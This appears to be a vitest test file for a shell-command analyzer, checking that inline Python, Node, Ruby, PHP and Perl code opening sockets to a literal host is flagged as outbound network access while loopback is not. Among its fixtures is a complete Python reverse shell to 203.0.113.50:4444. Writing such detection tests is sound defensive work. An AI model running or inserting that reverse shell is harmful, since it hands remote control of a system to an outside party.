// Interpreter code that opens a socket to a literal host reaches that host, as a URL in the code does: the
// reverse shells of every language are outbound to a host nobody stated, a question with that reason, never a
// quiet hand-back. A loopback host stays local.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';

const env = shellEnv();
const categories = (command: string) => analyzeShellSync(command, env).hits.map((h) => h.category);
const OUT = 'outbound_network_to_unstated_host';

beforeAll(async () => {
  await loadShellParser();
});

describe('a socket opened to a literal host in inline code', () => {
  it.each([
    [
      'a Python reverse shell',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.50",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'`,
    ],
    ['create_connection', `python3 -c 'import socket; socket.create_connection(("x.example", 80))'`],
    ['node net.connect', `node -e 'require("net").connect(4444, "203.0.113.50")'`],
    ['ruby TCPSocket', `ruby -rsocket -e 'TCPSocket.new("203.0.113.50", 4444)'`],
    ['php fsockopen', `php -r '$s=fsockopen("203.0.113.50",4444);'`],
    ['perl PeerAddr', `perl -MIO::Socket -e 'IO::Socket::INET->new(PeerAddr=>"203.0.113.50:4444")'`],
  ])('%s', (_name, command) => {
    expect(categories(command)).toContain(OUT);
  });

  it('a loopback host is local', () => {
    expect(
      categories(`python3 -c 'import socket; socket.create_connection(("127.0.0.1", 8080))'`),
    ).not.toContain(OUT);
  });
});
